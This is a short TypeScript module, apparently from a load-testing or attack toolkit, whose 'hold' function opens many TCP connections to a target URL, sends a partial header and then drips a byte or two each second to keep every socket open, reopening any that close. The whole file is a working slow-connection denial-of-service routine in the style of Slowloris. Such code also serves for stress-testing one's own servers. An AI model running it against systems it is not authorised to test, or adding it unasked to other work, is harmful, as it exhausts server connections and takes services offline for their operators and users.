import { connect, type Socket } from 'node:net'
import { atPace } from '@quayso/stack/measure/at-pace'
import { type Attacking, createTally } from './tally.ts'

interface HoldOptions {
  readonly url: string
  readonly connections: number
  /** What each sends at first. */
  readonly head: string
  /** What each then sends every second, a byte or two. */
  readonly drip?: string
}

const openedPerSecond = 500
const dripEveryMs = 1_000

/** Holds this many connections open; one that is closed is opened again. */
export function hold({ url, connections, head, drip }: HoldOptions): Attacking {
  const { hostname, port } = new URL(url)
  const sockets = new Set<Socket>()
  const tally = createTally()
  const open = async () => {
    if (sockets.size >= connections) return
    const socket = connect({ port: Number(port), host: hostname })
    sockets.add(socket)
    tally.send()
    socket.write(head)
    socket.once('data', (chunk) => tally.answer(Number(chunk.toString('latin1', 9, 12))))
    socket.on('data', () => {})
    socket.on('error', () => {})
    socket.once('close', () => sockets.delete(socket))
  }
  const pace = atPace(openedPerSecond, open)
  const dripping = setInterval(() => {
    if (drip) for (const socket of sockets) socket.write(drip)
  }, dripEveryMs)
  return {
    stop: async () => {
      clearInterval(dripping)
      await pace.stop()
      for (const socket of sockets) socket.destroy()
      return tally.read()
    },
  }
}
